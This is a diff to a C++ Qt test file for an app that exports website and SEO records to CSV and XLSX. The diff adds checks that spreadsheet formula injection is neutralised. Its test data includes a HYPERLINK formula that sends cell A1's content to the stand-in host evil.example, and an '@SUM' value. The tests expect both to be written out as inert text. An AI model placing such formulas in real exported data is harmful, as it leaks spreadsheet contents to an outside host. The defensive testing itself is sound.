@@ -21,10 +21,12 @@ namespace {
 const char *ReadBack = R"PY(
 import json, sys, datetime, openpyxl
 ws = openpyxl.load_workbook(sys.argv[1]).active
-cells = [[[type(c.value).__name__, c.value.date().isoformat() if isinstance(c.value, datetime.datetime) else c.value]
+cells = [[["formula" if c.data_type == "f" else type(c.value).__name__,
+           c.value.date().isoformat() if isinstance(c.value, datetime.datetime) else c.value]
           for c in row] for row in ws.iter_rows()]
 widths = [ws.column_dimensions[openpyxl.utils.get_column_letter(i + 1)].width for i in range(ws.max_column)]
 print(json.dumps({"cells": cells, "widths": widths, "freeze": ws.freeze_panes,
+                  "wrapped": [bool(c.alignment.wrap_text) for c in ws["B"]],
                   "bold": all(c.font.b for c in ws[1])}))
 )PY";
 
@@ -70,8 +72,8 @@ private slots:
     {
         start();
         m_db->exec("INSERT INTO biji1([时间],[备注],[百度收入量],[谷歌收入量],[雅虎收入量],[PR],[◆关键词1]) VALUES"
-                   "('2011-10-03','第二次, 有\"引号\"\n第二行','收入160/反向35','0','收入*/反向*','007','百度8/谷歌6'),"
-                   "('2011-09-05',NULL,'收入155/反向31','12','-3.5','3','')");
+                   "('2011-10-03','第二次, 有\"引号\"\r\n第二行','收入160/反向35','0','=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")','007','百度8/谷歌6'),"
+                   "('2011-09-05',NULL,'收入155/反向31','123456789012345','-3.5','3','')");
     }
     void cleanup() { stop(); }
 
@@ -84,8 +86,9 @@ private slots:
         // Oldest day first, AutoId left out, dates as yyyy-m-d, quoted only where needed.
         QCOMPARE(fileBytes(out), QByteArray("\xEF\xBB\xBF"
                                             "时间,备注,百度收入量,谷歌收入量,雅虎收入量,PR,◆关键词1\r\n"
-                                            "2011-9-5,,收入155/反向31,12,-3.5,3,\r\n"
-                                            "2011-10-3,\"第二次, 有\"\"引号\"\"\n第二行\",收入160/反向35,0,收入*/反向*,007,百度8/谷歌6\r\n"));
+                                            "2011-9-5,,收入155/反向31,123456789012345,-3.5,3,\r\n"
+                                            "2011-10-3,\"第二次, 有\"\"引号\"\"\r\n第二行\",收入160/反向35,0,"
+                                            "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"open\"\")\",007,百度8/谷歌6\r\n"));
     }
 
     void notesXlsx()
@@ -99,11 +102,13 @@ private slots:
         QCOMPARE(cells.size(), 3);
         QCOMPARE(describe(cells[0].toArray()),
                  "str:时间|str:备注|str:百度收入量|str:谷歌收入量|str:雅虎收入量|str:PR|str:◆关键词1");
-        // Dates are dates; a whole number is a number, "007" and "收入155/反向31" stay text; empty stays empty.
+        // Dates are dates; a whole number of up to 15 digits is a number, "007" and "收入155/反向31" stay
+        // text, and so does a formula; empty stays empty; a memo wraps, its lines broken by LF alone.
         QCOMPARE(describe(cells[1].toArray()),
-                 "datetime:2011-09-05|NoneType:|str:收入155/反向31|int:12|float:-3.5|int:3|NoneType:");
+                 "datetime:2011-09-05|NoneType:|str:收入155/反向31|int:123456789012345|float:-3.5|int:3|NoneType:");
         QCOMPARE(describe(cells[2].toArray()), "datetime:2011-10-03|str:第二次, 有\"引号\"\n第二行|str:收入160/反向35|int:0|"
-                                               "str:收入*/反向*|str:007|str:百度8/谷歌6");
+                                               "str:=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")|str:007|str:百度8/谷歌6");
+        QCOMPARE(book["wrapped"].toArray(), (QJsonArray{false, false, true}));
         QCOMPARE(book["freeze"].toString(), QStringLiteral("A2"));
         QVERIFY(book["bold"].toBool());
         // Wide enough for the longest content: "收入155/反向31" is 14 columns wide.
@@ -116,18 +121,22 @@ private slots:
     {
         QTest::addColumn<QString>("query");
         QTest::addColumn<QStringList>("names");
-        QTest::newRow("whole catalogue") << catalogueQuery() << QStringList{"新站", "老站, \"引号\""};
+        QTest::addColumn<QByteArray>("csv"); // after the header
+        QTest::newRow("whole catalogue") << catalogueQuery() << QStringList{"新站", "老站, \"引号\""}
+                                         << QByteArray("2,新站,http://new.example,2012-3-4,\r\n"
+                                                       "1,\"老站, \"\"引号\"\"\",http://old.example,2009-1-2,'@SUM(1+1)\r\n");
         QTest::newRow("search result") << "SELECT Webid As 编号, Webname As 网站名称, Weburl As 网址, Webtime As 接单日期, "
                                           "Webmemos As 备注信息 FROM Website  where Webname Like '%新%' order by webid"
-                                       << QStringList{"新站"};
+                                       << QStringList{"新站"} << QByteArray("2,新站,http://new.example,2012-3-4,\r\n");
     }
 
     void websites()
     {
         QFETCH(QString, query);
         QFETCH(QStringList, names);
+        QFETCH(QByteArray, csv);
         m_db->exec("INSERT INTO Website(Webname,Weburl,Webtime,Webmemos) VALUES"
-                   "('老站, \"引号\"','http://old.example','2009-01-02','备注'),('新站','http://new.example','2012-03-04','')");
+                   "('老站, \"引号\"','http://old.example','2009-01-02','@SUM(1+1)'),('新站','http://new.example','2012-03-04','')");
         db::Connection conn;
         conn.open(Database::connectionString);
         const QString csvPath = m_db->dir() + "/sites.csv";
@@ -135,8 +144,7 @@ private slots:
         QCOMPARE(exportWebsites(conn, query, Format::Csv, csvPath), names.size());
         QCOMPARE(exportWebsites(conn, query, Format::Xlsx, xlsxPath), names.size());
 
-        const QByteArray csv = fileBytes(csvPath);
-        QVERIFY(csv.startsWith("\xEF\xBB\xBF编号,网站名称,网址,接单日期,备注信息\r\n"));
+        QCOMPARE(fileBytes(csvPath), "\xEF\xBB\xBF编号,网站名称,网址,接单日期,备注信息\r\n" + csv);
         const QJsonArray cells = readXlsx(xlsxPath)["cells"].toArray();
         QCOMPARE(cells.size(), names.size() + 1);
         for (int i = 0; i < names.size(); ++i) {
@@ -144,7 +152,6 @@ private slots:
             QCOMPARE(row[0].toArray()[0].toString(), QStringLiteral("int"));
             QCOMPARE(row[1].toArray()[1].toString(), names[i]);
             QCOMPARE(row[3].toArray()[0].toString(), QStringLiteral("datetime"));
-            QVERIFY(csv.contains(CsvWriter_field(names[i])));
         }
     }
 
@@ -161,13 +168,7 @@ private slots:
             }
         }
     }
-
-private:
-    static QByteArray CsvWriter_field(const QString &text);
 };
-
-#include "exchange/Csv.h"
-QByteArray TestExport::CsvWriter_field(const QString &text) { return CsvWriter::field(text.toUtf8()); }
 
 QTEST_MAIN(TestExport)
 #include "tst_export.moc"
